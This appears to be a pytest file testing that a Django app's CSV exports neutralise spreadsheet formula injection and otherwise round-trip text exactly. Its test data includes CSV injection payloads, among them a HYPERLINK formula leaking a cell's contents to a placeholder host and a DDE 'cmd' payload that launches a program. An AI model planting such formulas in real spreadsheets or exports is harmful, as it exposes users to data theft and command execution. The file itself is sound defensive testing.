"""
Spreadsheet safety: cells that would run as formulas are neutralised (OWASP
"CSV Injection"), and everything else round-trips exactly through csv.reader.
"""

import pytest

from public.exports import neutralised
from tests import factories as f
from tests.export_helpers import claims, get_export, ratings

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_formula_starts_get_a_leading_quote(hostile):
    assert neutralised([hostile]) == ["'" + hostile]


@pytest.mark.parametrize("safe", ["Rats only.", "'already quoted", " =1 (a leading space)", "", "A=B", 42, None])
def test_everything_else_is_left_alone(safe):
    assert neutralised([safe]) == [safe]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_notes_quotes_statements_citations_and_titles_are_neutralised(client, alice, carol, hostile):
    article = f.make_article(f"Intro. {hostile} The end.", title=hostile)
    claim = f.make_claim(article, hostile, statement=hostile)
    f.cite(claim, f.make_study(hostile))
    f.make_rating(claim, alice, notes=hostile)
    f.finalize(claim, carol, rationale=hostile)
    [rating] = ratings(client)
    [claim_row] = claims(client)
    expected = "'" + hostile
    for column in ("claim_quote", "claim_statement", "article_title", "study_citations", "notes"):
        assert rating[column] == expected, column
    for column in ("claim_quote", "claim_statement", "article_title", "study_citations", "consensus_rationale"):
        assert claim_row[column] == expected, column


def test_a_safe_cell_is_not_touched_even_if_a_later_value_is_hostile(client, alice, carol):
    claim = f.make_claim()
    f.cite(claim, f.make_study("(Alpha 2001)"))
    f.cite(claim, f.make_study("=cmd()"))
    f.make_rating(claim, alice)
    f.finalize(claim, carol)
    # Only the start of a cell makes a formula: "(Alpha 2001); =cmd()" is text.
    assert ratings(client)[0]["study_citations"] == "(Alpha 2001); =cmd()"


ROUND_TRIP = [
    'She said "magnesium, always" — twice',
    "line one\nline two",
    "windows line\r\nnext line",
    "comma, semicolon; and quote\"'",
    "Mg²⁺ naïve façade 日本語 🙂",
    '"starts with a quote',
    "trailing newline\n",
]


@pytest.mark.parametrize("text", ROUND_TRIP)
def test_text_round_trips_exactly_through_the_csv_reader(client, alice, carol, text):
    article = f.make_article(f"Intro. {text} The end.", title=text)
    claim = f.make_claim(article, text, statement=text)
    f.cite(claim, f.make_study(text))
    f.make_rating(claim, alice, notes=text)
    f.finalize(claim, carol, rationale=text)
    [rating] = ratings(client)
    [claim_row] = claims(client)
    for column in ("claim_quote", "claim_statement", "article_title", "study_citations", "notes"):
        assert rating[column] == text, column
    assert claim_row["consensus_rationale"] == text


def test_the_body_is_utf8_without_a_byte_order_mark(client, alice, carol):
    claim = f.make_claim(f.make_article("Intro. Mg²⁺ helps. The end."), "Mg²⁺ helps.")
    f.make_rating(claim, alice)
    f.finalize(claim, carol)
    raw = b"".join(get_export(client, "ratings").streaming_content)
    assert raw.startswith(b"rating_id,")
    assert "Mg²⁺ helps.".encode() in raw
